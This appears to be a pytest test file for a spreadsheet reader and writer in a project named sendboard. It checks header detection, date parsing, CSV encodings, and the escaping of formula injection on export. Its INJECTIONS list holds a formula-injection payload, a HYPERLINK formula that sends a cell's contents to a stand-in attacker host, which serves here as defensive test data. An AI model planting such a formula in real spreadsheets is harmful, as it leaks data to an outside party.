"""Spreadsheet reading finds the real header and survives Excel's habits; writing is safe."""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from sendboard.errors import SendboardError
from sendboard.outputs.sheets import (
    SheetRow,
    parse_date,
    parse_due_date,
    read_sheet,
    safe_text,
    write_csv,
    write_xlsx,
)

ALIASES = {
    "name": ("full name", "contact"),
    "email": ("e-mail", "email address"),
    "due": ("due date", "deadline"),
}
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def titled_workbook(path: Path) -> Path:
    book = Workbook()
    sheet = book.active
    sheet["A1"] = "Kingsmere SEND Improvement Board — contacts"
    sheet.merge_cells("A1:D1")
    sheet["A2"] = "Updated monthly"
    sheet.merge_cells("A2:D2")
    sheet.append(["Full name", "E-mail", "Deadline", "Notes"])  # row 3
    sheet.append(["Ann Abbott", "ann@example.org", datetime(2026, 3, 9), "first"])  # row 4
    sheet.append([None, "  ", None, None])  # row 5: blank
    sheet.append(["Ben Bryce", "ben@example.org", 46090, None])  # row 6: a date typed as serial
    sheet.append(["Cai Carver", None, "09/03/2026", None])  # row 7
    book.save(path)
    return path


def test_header_is_found_under_merged_title_rows(tmp_path: Path) -> None:
    sheet = read_sheet(titled_workbook(tmp_path / "c.xlsx"), ALIASES, ["name", "email"])
    assert sheet.columns == {"name": "Full name", "email": "E-mail", "due": "Deadline"}
    assert sheet.unmapped == ("Notes",)
    assert [r.number for r in sheet.rows] == [4, 6, 7]
    assert [r.values["name"] for r in sheet.rows] == ["Ann Abbott", "Ben Bryce", "Cai Carver"]
    assert sheet.rows[2].values["email"] is None
    dues = [parse_date(r.values["due"]) for r in sheet.rows]
    assert dues == [date(2026, 3, 9)] * 3


def test_no_header_row_is_explained(tmp_path: Path) -> None:
    path = tmp_path / "nothing.csv"
    path.write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(SendboardError, match="no header row naming name, email"):
        read_sheet(path, ALIASES, ["name", "email"])


def test_other_file_types_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "contacts.ods"
    path.write_bytes(b"PK")
    with pytest.raises(SendboardError, match=r"choose a \.csv or \.xlsx"):
        read_sheet(path, ALIASES, ["name"])


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (45292, date(2024, 1, 1)),
        (45292.75, date(2024, 1, 1)),
        ("45292", date(2024, 1, 1)),
        ("01/02/2026", date(2026, 2, 1)),
        ("1/2/26", date(2026, 2, 1)),
        ("2026-02-01", date(2026, 2, 1)),
        ("1 February 2026", date(2026, 2, 1)),
        ("1 Feb 26", date(2026, 2, 1)),
        (datetime(2026, 2, 1, 9, 30), date(2026, 2, 1)),
        (date(2026, 2, 1), date(2026, 2, 1)),
        ("  ", None),
        (None, None),
    ],
)
def test_dates_as_excel_and_people_write_them(cell: object, expected: date | None) -> None:
    assert parse_date(cell) == expected


def test_text_that_is_not_a_date_is_explained() -> None:
    with pytest.raises(ValueError, match="'next Tuesday' is not a date"):
        parse_date("next Tuesday")


def test_csv_with_semicolons_in_windows_encoding(tmp_path: Path) -> None:
    path = tmp_path / "excel-export.csv"
    text = "Contact;Email address;Due date\r\nZoë Hartley;zoe@example.org;31/03/2026\r\n"
    path.write_bytes(text.encode("cp1252"))
    sheet = read_sheet(path, ALIASES, ["name", "email"])
    assert sheet.rows[0].values == {"name": "Zoë Hartley", "email": "zoe@example.org",
                                    "due": "31/03/2026"}  # fmt: skip
    assert sheet.rows[0].number == 2


def test_safe_text_leaves_ordinary_values_alone() -> None:
    assert safe_text("Helen Marsh") == "Helen Marsh"
    assert safe_text(-2) == -2
    assert safe_text("=1+1") == "'=1+1"


def test_xlsx_export_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, "People", ["Name", "Note", "Count"], [[text, "ok", -3] for text in INJECTIONS])
    sheet = load_workbook(path).active
    for row, text in zip(sheet.iter_rows(min_row=2), INJECTIONS, strict=True):
        # A text cell is never run as a formula; the quote prefix style (not a visible ') keeps
        # it text when someone edits the cell in Excel.
        assert row[0].data_type == "s"
        assert row[0].value == text
        assert row[0].quotePrefix
        assert row[2].value == -3 and row[2].data_type == "n"
    assert sheet.freeze_panes == "A2"
    assert not list(tmp_path.glob("*.part"))


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["Name", "When"], [[text, date(2026, 3, 9)] for text in INJECTIONS])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["Name", "When"]
    assert [r[0] for r in rows[1:]] == ["'" + text for text in INJECTIONS]
    assert {r[1] for r in rows[1:]} == {"09/03/2026"}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_neutralised_text_reads_back_as_written(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"round{suffix}"
    values = ["+44 1632 960000", "-", "=SUM(A1)", "'quoted'"]
    rows = [[f"Person {i}", v] for i, v in enumerate(values)]
    if suffix == ".csv":
        write_csv(path, ["Name", "Email"], rows)
    else:
        write_xlsx(path, "People", ["Name", "Email"], rows)
    sheet = read_sheet(path, ALIASES, ["name", "email"])
    assert [r.values["email"] for r in sheet.rows] == values


def test_csv_apostrophes_and_cells_over_several_lines(tmp_path: Path) -> None:
    path = tmp_path / "contacts.csv"
    path.write_text(
        "Name,Email,Notes\n"
        'Grace O\'Connell,grace@example.org,"Chair, PCF\nmeets monthly"\n'
        "Seán O'Neill,sean@example.org,'+44 7700\n",
        encoding="utf-8",
    )
    sheet = read_sheet(path, ALIASES, ["name", "email"])
    assert [r.values["name"] for r in sheet.rows] == ["Grace O'Connell", "Seán O'Neill"]
    assert [r.number for r in sheet.rows] == [2, 3]
    assert sheet.unmapped == ("Notes",)


def test_cells_read_as_text_without_excel_trailing_zero() -> None:
    row = SheetRow(
        number=2, values={"phone": 7700900123.0, "score": 2.5, "name": " Ann ", "x": None}
    )
    assert row.text("phone") == "7700900123"
    assert row.text("score") == "2.5"
    assert row.text("name") == "Ann"
    assert row.text("x") == ""
    assert row.text("not a column") == ""


def _with_cached_value(path: Path, coordinate: str, value: str, kind: str = "n") -> None:
    """Give one formula cell a saved value, as Excel does when it saves (openpyxl never does)."""
    import re
    import zipfile

    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    name = "xl/worksheets/sheet1.xml"
    xml = parts[name].decode()
    pattern = rf'<c r="{coordinate}"[^>]*>\s*(<f>[^<]*</f>)\s*(<v\s*/>|<v></v>)?'
    xml, count = re.subn(pattern, rf'<c r="{coordinate}" t="{kind}">\1<v>{value}</v>', xml)
    assert count == 1
    parts[name] = xml.encode()
    with zipfile.ZipFile(path, "w") as target:
        for part, data in parts.items():
            target.writestr(part, data)


def test_a_formula_cell_never_calculated_is_a_problem_naming_the_cell(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = "Actions"
    sheet.append(["Full name", "E-mail", "Deadline", "Workings"])
    sheet.append(["Ann Abbott", "ann@example.org", "=DATE(2026,3,31)", "=1+1"])  # row 2
    sheet.append(["Ben Bryce", "ben@example.org", "=DATE(2026,4,30)", None])  # row 3
    sheet.append(["Cai Carver", "cai@example.org", "31/03/2026", "=2+2"])  # row 4
    sheet.append(["Dee Dunn", "dee@example.org", '=IF(TRUE,"","x")', None])  # row 5
    path = tmp_path / "formulas.xlsx"
    book.save(path)
    _with_cached_value(path, "C3", "46142")
    _with_cached_value(path, "C5", "", kind="str")
    rows = read_sheet(path, ALIASES, ["name"]).rows
    assert rows[0].problems == (
        "Sheet 'Actions' cell C2 holds a formula with no saved value; "
        "open and save the file in Excel first",
    )
    assert rows[0].values["due"] is None
    assert rows[1].problems == ()  # calculated and saved: its value is read
    assert parse_date(rows[1].values["due"]) == date(2026, 4, 30)
    assert rows[2].problems == ()  # a formula in a column nobody reads does not matter
    assert (rows[3].problems, rows[3].values["due"]) == ((), None)  # worked out as "": blank


def test_a_date_shown_as_a_month_reads_as_that_month(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["Full name", "Deadline"])
    sheet.append(["Ann Abbott", datetime(2025, 5, 1)])
    sheet["B2"].number_format = "mmm-yy"
    sheet.append(["Ben Bryce", datetime(2025, 6, 1)])
    sheet["B3"].number_format = "[$-809]mmmm yyyy;@"
    sheet.append(["Cai Carver", datetime(2025, 7, 1)])
    sheet["B4"].number_format = "dd/mm/yyyy"
    path = tmp_path / "months.xlsx"
    book.save(path)
    rows = read_sheet(path, ALIASES, ["name"]).rows
    assert [r.values["due"] for r in rows] == ["May 2025", "June 2025", datetime(2025, 7, 1)]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("May 2025", (date(2025, 5, 31), "May 2025 read as 31 May 2025")),
        ("Q3 2026/27", (date(2026, 12, 31), "Q3 2026/27 read as 31 December 2026")),
        ("Spring term 2027", (date(2027, 3, 31), "Spring term 2027 read as 31 March 2027")),
        ("01/05/2025", (date(2025, 5, 1), None)),
        (datetime(2025, 5, 1), (date(2025, 5, 1), None)),
        (None, (None, None)),
    ],
)
def test_a_due_date_may_be_a_period(cell: object, expected: tuple) -> None:
    assert parse_due_date(cell) == expected


def test_a_due_date_that_is_not_a_date_suggests_a_month() -> None:
    with pytest.raises(ValueError, match=r"'Ongoing' is not a date.*May 2025"):
        parse_due_date("Ongoing")
    with pytest.raises(ValueError, match="Q3 2026/27"):
        parse_due_date("Q3 2026")
